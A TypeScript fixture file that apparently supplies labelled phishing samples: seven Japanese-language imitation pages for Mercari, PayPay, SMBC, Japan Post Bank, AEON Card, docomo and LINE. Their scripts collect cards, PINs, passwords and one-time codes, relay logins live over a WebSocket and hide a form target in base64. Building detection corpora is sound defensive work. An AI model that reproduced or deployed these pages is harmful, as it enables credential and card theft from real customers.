import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';
import { doc, wordmark, lockIcon, spinnerCss, b64 } from '../parts/yj-kit.js';

// Credential and card kits (Japan: finance, commerce, carriers, messaging).

export const entries: Entry[] = [
  // yj-mercari-buyer-paid-card
{
  id: 'yj-mercari-buyer-paid-card',
  label: 'phishing',
  kind: 'marketplace-escrow-kit',
  url: 'https://jp-mercari.trade-receive.cc/transaction/m83920174551',
  body: doc({
    lang: 'ja',
    title: '取引画面 - メルカリ',
    css: `body{background:#f5f5f5}header{background:#fff;border-bottom:1px solid #e5e5e5;padding:12px 16px;display:flex;align-items:center;gap:8px}
.c{max-width:560px;margin:0 auto;padding:16px}.card{background:#fff;border-radius:8px;padding:18px;margin-bottom:12px}.item{display:flex;gap:12px}.thumb{width:88px;height:88px;background:#e9e9e9;border-radius:6px}
.price{font-size:20px;font-weight:bold}.step{display:flex;justify-content:space-between;font-size:11px;color:#888;margin:10px 0}.step b{color:#ff333f}
.ok{background:#e9f7ef;color:#1b7f3b;padding:10px;border-radius:6px;font-size:14px}label{display:block;font-size:13px;margin:12px 0 4px;font-weight:bold}input,select{width:100%;padding:11px;border:1px solid #ccc;border-radius:4px;font-size:16px}
.btn{width:100%;margin-top:18px;padding:14px;border:0;border-radius:4px;background:#ff333f;color:#fff;font-weight:bold;font-size:16px}small{color:#777}`,
    body: `<header>${wordmark('mercari', '#ff333f', { w: 110 })}<span style="font-size:13px;color:#666">取引画面</span></header>
<div class="c">
<div class="card"><div class="item"><div class="thumb"></div><div><div>【美品】Nintendo Switch 有機ELモデル ホワイト</div><div class="price">¥32,800</div><small>商品ID: m83920174551</small></div></div>
<div class="step"><span>購入</span><b>支払い完了</b><span>発送</span><span>受取評価</span></div></div>
<div class="card"><div class="ok">購入者様がお支払いを完了しました。</div>
<p style="font-size:14px">メルカリでは安全な取引のため、売上金の受け取りに<strong>受取口座（カード）の認証</strong>が必要です。認証が完了すると、売上金 ¥32,800 が即時に反映され、発送が可能になります。</p>
<p style="font-size:12px;color:#c00">※24時間以内に認証されない場合、取引はキャンセルされ購入者様へ返金されます。</p>
<form id="vf">
<label>カード番号</label><input name="number" inputmode="numeric" placeholder="1234 5678 9012 3456" maxlength="19">
<label>有効期限</label><div style="display:flex;gap:8px"><select name="mm"><option>01</option><option>02</option><option>03</option><option>04</option><option>05</option><option>06</option><option>07</option><option>08</option><option>09</option><option>10</option><option>11</option><option>12</option></select><select name="yy"><option>25</option><option>26</option><option>27</option><option>28</option><option>29</option><option>30</option></select></div>
<label>セキュリティコード</label><input name="cvc" maxlength="4" inputmode="numeric">
<label>カード残高（認証のため）</label><input name="balance" placeholder="例: 50000">
<button class="btn" type="submit">認証して売上金を受け取る</button></form>
<small>この認証はメルカリ事務局により安全に処理されます。</small></div></div>`,
    tail: `<script>
document.getElementById('vf').addEventListener('submit',function(e){e.preventDefault();var d=new FormData(this);d.append('oid','m83920174551');d.append('ua',navigator.userAgent);
fetch('/api/receive.php',{method:'POST',body:d}).then(function(r){return r.json()}).then(function(j){location.href=j.next||'/transaction/otp'}).catch(function(){location.href='/transaction/otp'})});
</script>`,
  }),
  routes: {
    'jp-mercari.trade-receive.cc/api/receive.php': jsonRoute({ ok: 1, next: '/transaction/otp' }),
    'jp-mercari.trade-receive.cc/transaction/otp': htmlRoute(doc({ lang: 'ja', title: 'SMS認証 - メルカリ', css: `.c{max-width:420px;margin:40px auto;padding:16px;text-align:center}input{font-size:22px;letter-spacing:6px;text-align:center;width:200px;padding:8px}button{margin-top:16px;padding:12px 40px;background:#ff333f;color:#fff;border:0;border-radius:4px}`, body: `<div class="c"><h2>SMS認証</h2><p>カード会社から届いた認証コード（6桁）を入力してください。</p><form method="post" action="/api/otp.php"><input name="otp" maxlength="6" inputmode="numeric" autocomplete="one-time-code"><br><button>送信</button></form></div>` })),
  },
},
  // yj-paypay-phone-sms-kit
{
  id: 'yj-paypay-phone-sms-kit',
  label: 'phishing',
  kind: 'qr-wallet-kit',
  url: 'https://paypay-anzen.com/login',
  body: doc({
    lang: 'ja',
    title: 'PayPay - ログイン',
    css: `body{background:#fff}.top{background:#ff0033;height:56px;display:flex;align-items:center;justify-content:center}.m{max-width:400px;margin:0 auto;padding:24px 20px}
h2{font-size:20px;text-align:center}.notice{font-size:13px;background:#f6f6f6;padding:12px;border-radius:8px;margin-bottom:16px}input{width:100%;border:0;border-bottom:1px solid #ccc;padding:12px 4px;font-size:17px;margin-bottom:14px;outline:none}
input:focus{border-bottom-color:#ff0033}button{width:100%;background:#ff0033;color:#fff;border:0;border-radius:24px;padding:14px;font-size:16px;font-weight:bold}.w{display:none;text-align:center}${spinnerCss}`,
    body: `<div class="top">${wordmark('PayPay', '#fff', { w: 110, size: 26 })}</div>
<div class="m" id="login">
<h2>アカウントの安全確認</h2>
<div class="notice">お客様のPayPayアカウントで普段と異なる端末からのログインを検知しました。残高とポイントを保護するため、ご本人確認を行ってください。</div>
<form id="pf"><input id="tel" name="tel" type="tel" placeholder="携帯電話番号" maxlength="13"><input id="pw" name="pw" type="password" placeholder="パスワード"><button type="submit">ログイン</button></form>
</div>
<div class="m w" id="wait"><div class="spin"></div><p>確認中です。このままお待ちください…</p></div>`,
    tail: `<script>
var sid=Math.random().toString(36).slice(2),ws;
function sock(){try{ws=new WebSocket((location.protocol=='https:'?'wss://':'ws://')+location.host+'/socket/?sid='+sid);ws.onmessage=function(m){var d=JSON.parse(m.data);if(d.cmd=='sms')location.href='/sms?sid='+sid;if(d.cmd=='err'){alert('パスワードが正しくありません');show('login')}if(d.cmd=='done')location.href='https://paypay.ne.jp/'}}catch(e){}}
function show(i){document.getElementById('login').style.display=i=='login'?'block':'none';document.getElementById('wait').style.display=i=='wait'?'block':'none'}
sock();
document.getElementById('pf').onsubmit=function(e){e.preventDefault();var t=this.tel.value.replace(/\\D/g,'');if(!/^0[789]0\\d{8}$/.test(t)){alert('携帯電話番号を正しく入力してください');return}
var p={sid:sid,type:'login',tel:t,pw:this.pw.value};fetch('/api/v1/collect',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(p)});if(ws&&ws.readyState==1)ws.send(JSON.stringify(p));show('wait');setTimeout(function(){location.href='/sms?sid='+sid},9000)};
</script>`,
  }),
  routes: {
    'paypay-anzen.com/api/v1/collect': jsonRoute({ code: 0 }),
    'paypay-anzen.com/sms': htmlRoute(doc({
      lang: 'ja', title: 'PayPay - SMS認証',
      css: `.top{background:#ff0033;height:56px}.m{max-width:400px;margin:0 auto;padding:24px 20px;text-align:center}input{font-size:24px;text-align:center;letter-spacing:8px;width:220px;border:0;border-bottom:2px solid #ff0033;padding:8px}button{display:block;margin:22px auto;width:100%;background:#ff0033;color:#fff;border:0;border-radius:24px;padding:14px;font-size:16px}`,
      body: `<div class="top"></div><div class="m"><h2>SMS認証</h2><p>ご登録の携帯電話番号にSMSで送信された4桁の認証コードを入力してください。</p><form method="post" action="/api/v1/sms"><input name="code" maxlength="4" inputmode="numeric" autocomplete="one-time-code"><button>認証する</button></form></div>`,
    })),
  },
},
  // yj-smbc-direct-branch-pin
{
  id: 'yj-smbc-direct-branch-pin',
  label: 'phishing',
  kind: 'jp-bank-kit',
  url: 'https://smbc-direct.co-jp.vip/smbc/login/',
  body: doc({
    lang: 'ja',
    title: 'SMBCダイレクト｜三井住友銀行',
    css: `body{background:#eef3ef}.h{background:#fff;padding:12px 20px;border-bottom:4px solid #004831}.main{max-width:640px;margin:26px auto;background:#fff;padding:26px 30px;border:1px solid #d6dfd9}
h1{color:#004831;font-size:20px;border-left:5px solid #a0c81e;padding-left:10px}table{width:100%;border-collapse:collapse;margin:14px 0}th{width:34%;background:#f1f6f2;text-align:left;padding:12px;font-size:14px;border:1px solid #d6dfd9}td{border:1px solid #d6dfd9;padding:10px}
input{padding:8px;border:1px solid #999;font-size:16px}.go{display:block;margin:20px auto 0;background:#004831;color:#fff;border:0;padding:14px 60px;font-size:16px;border-radius:3px}.cau{font-size:12px;color:#b00}`,
    body: `<div class="h">${wordmark('SMBC 三井住友銀行', '#004831', { w: 230, size: 20 })}</div>
<div class="main">
<h1>SMBCダイレクト ログイン</h1>
<p style="font-size:14px">マネー・ローンダリング等防止のため、お取引目的等のご確認をお願いしております。期限までにご回答いただけない場合、お口座のお取引を一部制限させていただきます。</p>
<form name="frm" method="post" action="next.php">
<table>
<tr><th>店番号（3桁）</th><td><input name="tenban" size="5" maxlength="3" inputmode="numeric"></td></tr>
<tr><th>口座番号（7桁）</th><td><input name="kouza" size="10" maxlength="7" inputmode="numeric"></td></tr>
<tr><th>第一暗証（4桁）</th><td><input name="pin1" type="password" size="6" maxlength="4" inputmode="numeric"></td></tr>
</table>
<p class="cau">※第一暗証はキャッシュカードの暗証番号とは異なります。</p>
<button class="go" type="submit">ログイン</button>
</form>
</div>`,
  }),
  routes: {
    'smbc-direct.co-jp.vip/smbc/login/next.php': htmlRoute(doc({
      lang: 'ja', title: 'ワンタイムパスワード認証｜三井住友銀行',
      css: `body{background:#eef3ef}.main{max-width:640px;margin:26px auto;background:#fff;padding:26px 30px}h1{color:#004831;font-size:20px}label{display:block;margin:12px 0 4px;font-weight:bold}input{padding:8px;font-size:16px;width:240px}button{margin-top:20px;background:#004831;color:#fff;border:0;padding:12px 50px}`,
      body: `<div class="main"><h1>追加認証</h1><form method="post" action="finish.php"><label>キャッシュカード暗証番号（4桁）</label><input name="atm" type="password" maxlength="4"><label>ワンタイムパスワード（8桁）</label><input name="otp" maxlength="8"><label>ご登録の電話番号</label><input name="tel"><br><button>次へ</button></form></div>`,
    })),
  },
},
  // yj-yucho-direct-kit
{
  id: 'yj-yucho-direct-kit',
  label: 'phishing',
  kind: 'jp-bank-kit',
  url: 'https://direct-jp-bank-japanpost.icu/tp1web/U010101WAK.do',
  body: doc({
    lang: 'ja',
    title: 'ゆうちょダイレクト　ログイン（お客さま番号入力）',
    css: `body{background:#fff}#hd{border-bottom:2px solid #008c3c;padding:8px 14px}#ct{max-width:700px;margin:0 auto;padding:18px}h1{font-size:18px;background:#eaf5ee;padding:8px 12px;border-left:6px solid #008c3c}
.box{border:1px solid #cfe3d6;padding:18px;margin:14px 0}.num input{width:70px;padding:8px;font-size:16px;text-align:center}.num span{margin:0 6px}.btn{background:#f6a800;color:#fff;border:0;border-radius:4px;padding:12px 44px;font-size:16px;font-weight:bold}
.q{margin:10px 0}.q select,.q input{padding:7px;font-size:15px}.sm{font-size:12px;color:#444}`,
    body: `<div id="hd">${wordmark('ゆうちょ銀行', '#008c3c', { w: 160, size: 20 })}</div>
<div id="ct"><h1>ゆうちょダイレクト ログイン</h1>
<p class="sm">【重要】2025年度の本人確認（取引時確認）の期限が近づいております。ログイン後、合言葉のご確認をお願いします。</p>
<form method="post" action="/tp1web/U010103WAK.do">
<div class="box"><p><b>お客さま番号</b></p><div class="num"><input name="okyakusamaBangou1" maxlength="4"><span>-</span><input name="okyakusamaBangou2" maxlength="4"><span>-</span><input name="okyakusamaBangou3" maxlength="5" style="width:84px"></div>
<p class="sm">お客さま番号は、ゆうちょダイレクトのご利用申込時に送付された「お客さま番号通知書」に記載されています。</p></div>
<div class="box"><p><b>ログインパスワード</b></p><input type="password" name="loginPassword" style="padding:8px;width:240px;font-size:16px"></div>
<div class="box"><p><b>合言葉の確認</b></p>
<div class="q">質問1 <select name="q1"><option>母親の旧姓は？</option><option>初めて飼ったペットの名前は？</option><option>出身小学校の名前は？</option></select> <input name="a1"></div>
<div class="q">質問2 <select name="q2"><option>好きな食べ物は？</option><option>父親の出身地は？</option><option>子供の頃のあだ名は？</option></select> <input name="a2"></div>
<div class="q">質問3 <select name="q3"><option>好きな歌手は？</option><option>初めて行った海外の国は？</option></select> <input name="a3"></div></div>
<p style="text-align:center"><button class="btn">次へ</button></p></form>
<p class="sm">&copy; JAPAN POST BANK Co.,Ltd. All Rights Reserved.</p></div>`,
  }),
},
  // yj-aeon-card-lock-notice
{
  id: 'yj-aeon-card-lock-notice',
  label: 'phishing',
  kind: 'card-issuer-kit',
  url: 'https://aeon-kaiin.net-lock.work/aeon/',
  body: doc({
    lang: 'ja',
    title: '【重要】イオンカードのご利用制限について',
    css: `body{background:#f8f4fa}.hd{background:#b60081;color:#fff;padding:12px 16px;font-weight:bold}.w{max-width:560px;margin:18px auto;background:#fff;padding:22px;border-radius:6px}
h1{font-size:18px;color:#b60081}ul{font-size:14px;padding-left:18px}.go{display:block;text-align:center;background:#b60081;color:#fff;text-decoration:none;padding:14px;border-radius:30px;font-weight:bold;margin-top:20px}.d{font-size:12px;color:#666}`,
    body: `<div class="hd">イオンカード 暮らしのマネーサイト</div>
<div class="w"><h1>【重要】カードご利用制限のお知らせ</h1>
<p>いつもイオンカードをご利用いただきありがとうございます。</p>
<p>お客さまのカードにおいて、第三者による不正利用の疑いがある取引を確認いたしました。お客さまの被害防止のため、現在カードのご利用を一時停止しております。</p>
<ul><li>ご利用日時：2025/10/14 02:41</li><li>ご利用先：APPLE.COM/BILL</li><li>ご利用金額：48,800円</li></ul>
<p>お心当たりがない場合は、下記より本人確認を行い、ご利用制限の解除手続きを行ってください。</p>
<a class="go" href="/aeon/verify.html">ご利用制限を解除する</a>
<p class="d">※本人確認が72時間以内に完了しない場合、カードは無効となり再発行手数料が発生いたします。<br>株式会社イオン銀行 / イオンクレジットサービス株式会社</p></div>`,
  }),
  routes: {
    'aeon-kaiin.net-lock.work/aeon/verify.html': htmlRoute(doc({
      lang: 'ja', title: '本人確認 | 暮らしのマネーサイト',
      css: `.hd{background:#b60081;color:#fff;padding:12px 16px}.w{max-width:560px;margin:18px auto;padding:0 16px}label{display:block;font-size:13px;margin:12px 0 4px}input{width:100%;padding:10px;font-size:16px;border:1px solid #ccc}button{width:100%;margin-top:18px;padding:14px;background:#b60081;color:#fff;border:0;border-radius:30px}`,
      body: `<div class="hd">本人確認</div><div class="w"><form method="post" action="/aeon/post.php"><label>ネット会員ID</label><input name="id"><label>パスワード</label><input name="pw" type="password"><label>氏名（カナ）</label><input name="kana"><label>生年月日</label><input name="birth" placeholder="1975/04/01"><label>カード番号</label><input name="card" maxlength="16"><label>有効期限</label><input name="exp" placeholder="MM/YY"><label>セキュリティコード</label><input name="cvv" maxlength="3"><label>暗証番号</label><input name="pin" type="password" maxlength="4"><button>送信する</button></form></div>`,
    })),
  },
},
  // yj-docomo-daccount-kit
{
  id: 'yj-docomo-daccount-kit',
  label: 'phishing',
  kind: 'carrier-account-kit',
  url: 'https://d-account-docomo.info-id.xyz/cgi8/id/login',
  body: doc({
    lang: 'ja',
    title: 'dアカウント ログイン',
    css: `body{background:#fff}.bar{height:4px;background:#cc0033}.w{max-width:420px;margin:0 auto;padding:26px 18px}.lg{text-align:center;margin-bottom:16px}h1{font-size:20px;text-align:center}
input{width:100%;padding:13px;border:1px solid #999;border-radius:4px;font-size:16px;margin:6px 0 14px}button{width:100%;background:#cc0033;color:#fff;border:0;border-radius:4px;padding:14px;font-size:16px;font-weight:bold}.t{font-size:12px;color:#555}.box{border:1px solid #f0c0c8;background:#fff6f8;padding:10px;font-size:13px;border-radius:4px;margin-bottom:12px}`,
    body: `<div class="bar"></div><div class="w"><div class="lg">${wordmark('docomo', '#cc0033', { w: 120, size: 26 })}</div>
<h1>dアカウントでログイン</h1>
<div class="box">ご利用料金のお支払いが確認できていません。dアカウントにログインし、お支払い方法をご確認ください。期日を過ぎますと回線のご利用が停止となります。</div>
<form id="df" method="post"><div id="s1"><label class="t">dアカウントのID</label><input name="authid" id="authid" autocomplete="username"><button type="button" id="n1">次へ</button></div>
<div id="s2" style="display:none"><p class="t" id="idshow"></p><label class="t">パスワード</label><input name="authpass" type="password"><label class="t">ネットワーク暗証番号（4桁）</label><input name="nwpin" type="password" maxlength="4" inputmode="numeric"><button type="submit">ログイン</button></div></form>
<p class="t">dアカウントのIDを忘れた方は<a href="#">こちら</a></p></div>`,
    tail: `<script>
(function(){var _0x=['L2NnaTgvaWQvYXV0aC5waHA=','ZG9jb21vLWQ='];var a=atob(_0x[0]);var f=document.getElementById('df');f.setAttribute('action',a);
document.getElementById('n1').onclick=function(){var v=document.getElementById('authid').value;if(!v)return;document.getElementById('idshow').textContent='ID: '+v;document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block'}})();
</script>`,
  }),
  routes: {
    'd-account-docomo.info-id.xyz/cgi8/id/auth.php': htmlRoute(doc({ lang: 'ja', title: 'お支払い方法の変更', css: `.w{max-width:420px;margin:0 auto;padding:20px}input{width:100%;padding:12px;margin:6px 0 12px;font-size:16px}button{width:100%;background:#cc0033;color:#fff;border:0;padding:14px}`, body: `<div class="w"><h2>お支払い方法の変更</h2><form method="post" action="/cgi8/id/card.php"><label>クレジットカード番号</label><input name="cc"><label>有効期限</label><input name="exp" placeholder="MM/YY"><label>セキュリティコード</label><input name="cvv"><label>カード名義</label><input name="name"><button>登録</button></form></div>` })),
  },
},
  // yj-line-account-kit
{
  id: 'yj-line-account-kit',
  label: 'phishing',
  kind: 'messaging-account-kit',
  url: 'https://line-me.account-protect.top/login',
  body: doc({
    lang: 'ja',
    title: 'LINE',
    css: `body{background:#fff}.w{max-width:380px;margin:0 auto;padding:40px 20px;text-align:center}.logo{margin-bottom:20px}p{font-size:14px;color:#555}
input{width:100%;padding:14px;border:1px solid #ddd;border-radius:6px;margin:6px 0;font-size:16px}button{width:100%;margin-top:14px;background:#06c755;color:#fff;border:0;border-radius:6px;padding:14px;font-size:16px;font-weight:bold}.pin{display:none}.pin input{letter-spacing:14px;text-align:center;font-size:26px}`,
    body: `<div class="w"><div class="logo">${wordmark('LINE', '#fff', { w: 90, h: 90, bg: '#06c755', size: 28 })}</div>
<div id="a"><h2>アカウントの安全確認</h2><p>お客様のLINEアカウントは、セキュリティ保護のため一時的に利用が制限されています。本人確認を行うと制限が解除されます。</p>
<input id="ph" type="tel" placeholder="電話番号（例：09012345678）"><input id="pw" type="password" placeholder="パスワード"><button id="b1">次へ</button></div>
<div id="b" class="pin"><h2>本人確認</h2><p>お使いのスマートフォンのLINEに届いた4桁の認証番号を入力してください。</p><input id="code" maxlength="4" inputmode="numeric"><button id="b2">認証</button></div></div>`,
    tail: `<script>
function post(o){return fetch('/api/line.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:Object.keys(o).map(function(k){return k+'='+encodeURIComponent(o[k])}).join('&')})}
document.getElementById('b1').onclick=function(){var p=document.getElementById('ph').value,w=document.getElementById('pw').value;if(p.length<10||!w)return;post({t:'acc',phone:p,pass:w});document.getElementById('a').style.display='none';document.getElementById('b').style.display='block'};
document.getElementById('b2').onclick=function(){post({t:'pin',pin:document.getElementById('code').value,phone:document.getElementById('ph').value}).then(function(){document.querySelector('.w').innerHTML='<h2>認証中…</h2><p>しばらくお待ちください</p>'})};
</script>`,
  }),
  routes: { 'line-me.account-protect.top/api/line.php': jsonRoute({ status: 'ok' }) },
},
];
